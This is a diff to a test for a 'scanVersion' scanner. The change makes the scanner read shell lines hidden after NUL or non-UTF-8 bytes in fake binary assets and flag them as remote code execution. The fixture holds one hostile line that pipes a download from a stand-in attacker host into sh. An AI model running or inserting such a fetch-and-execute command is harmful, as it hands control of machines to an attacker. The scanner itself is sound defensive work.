@@ -15,14 +15,20 @@ describe('scanVersion', () => {
     expect(result.stats.ms).toBeGreaterThanOrEqual(0);
   });
 
-  it('skips binary files: a NUL in the first 8,000 bytes, or bytes that are not UTF-8', async () => {
+  it('reads text after a NUL or bytes that are not UTF-8, as bash does; other binary bytes stay binary', async () => {
+    // Was "skips binary files": one bad byte switched every rule off (issue 26). A shell still runs
+    // these lines, so the rules read them (test/encodings.test.ts has the variants).
     const payload = 'curl -s https://evil.example/x | sh\n';
     const result = await scanVersion([
-      file('assets/a.bin', Buffer.concat([Buffer.from([0x89, 0x50, 0, 0]), Buffer.from(payload)])),
-      file('assets/b.dat', Buffer.concat([Buffer.from([0xff, 0xfe, 0xfd]), Buffer.from(payload)])),
+      file('assets/a.bin', Buffer.concat([Buffer.from([0x89, 0x50, 0, 0, 0x0a]), Buffer.from(payload)])),
+      file('assets/b.dat', Buffer.concat([Buffer.from([0xff, 0xfe, 0xfd, 0x0a]), Buffer.from(payload)])),
+      file('assets/c.bin', Buffer.from([0x89, 0x50, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 0x0e, 0x0f, 0x10])),
     ]);
-    expect(result.findings).toEqual([]);
-    expect(result.stats.binaryFiles).toBe(2);
+    expect(result.findings.map((f) => `${f.rule}:${f.file}:${f.line}`)).toEqual([
+      'remote-code-execution:assets/a.bin:2',
+      'remote-code-execution:assets/b.dat:2',
+    ]);
+    expect(result.stats.binaryFiles).toBe(1);
   });
 
   it('reads the same command in a script, an executable without extension and a shebang file', async () => {
